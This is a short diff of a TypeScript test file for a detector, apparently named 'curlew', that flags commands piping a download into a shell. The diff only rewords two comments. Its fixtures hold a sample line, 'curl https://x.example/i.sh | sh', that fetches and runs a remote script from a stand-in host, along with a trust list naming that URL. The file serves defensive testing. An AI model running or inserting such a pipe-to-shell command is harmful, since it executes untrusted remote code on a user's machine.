@@ -9,7 +9,7 @@ import { runHere, standIn, type Given } from "../stand-in.js";
 const BAD = "curl https://x.example/i.sh | sh";
 const TRUST = JSON.stringify({ trust: ["https://x.example/i.sh"] });
 
-/** What the detector was asked for, with the answer. */
+/** Returns the options of the detector, with the output. */
 async function asked(args: string[], given: Given) {
   const choices: { profile: string; disabledRules: readonly string[] }[] = [];
   const createDetector = async (choice: (typeof choices)[number]) => (
@@ -120,7 +120,7 @@ describe("curlew.json", () => {
         })
       ).status,
     ).toBe(1);
-    // a folder that is relative would be wherever one stands
+    // a relative folder would depend on the working directory
     const planted = folderWith({ "a.md": BAD, "x/curlew/curlew.json": TRUST });
     expect(
       (
